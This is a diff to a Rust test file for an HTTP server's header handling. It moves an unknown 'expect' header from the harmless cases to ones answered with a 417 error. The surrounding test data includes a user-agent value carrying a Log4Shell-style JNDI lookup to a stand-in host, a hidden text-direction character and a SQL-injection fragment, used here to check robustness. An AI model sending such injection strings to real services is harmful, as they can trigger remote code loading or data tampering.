@@ -73,6 +73,15 @@ fn answers() -> Vec<Case> {
             b"",
             Problem(406, "/problems/not-acceptable"),
         ),
+        Case {
+            closes: true,
+            ..order(
+                "an expectation of something else",
+                "expect: tea\r\n",
+                b"",
+                Problem(417, "/problems/expectation-failed"),
+            )
+        },
     ]
 }
 
@@ -97,7 +106,6 @@ fn harmless() -> Vec<Case> {
         ("a token that nobody asked for", "authorization: Bearer nonsense\r\n".to_owned()),
         ("a foreign origin", "origin: https://example.org\r\n".to_owned()),
         ("a strange agent", "user-agent: ${jndi:ldap://example.org} \u{202e} '; --\r\n".to_owned()),
-        ("an expectation of something else", "expect: tea\r\n".to_owned()),
         ("what is accepted has a bad weight", "accept: */*;q=many\r\n".to_owned()),
     ];
     let refused = |(name, headers): (&str, String)| {
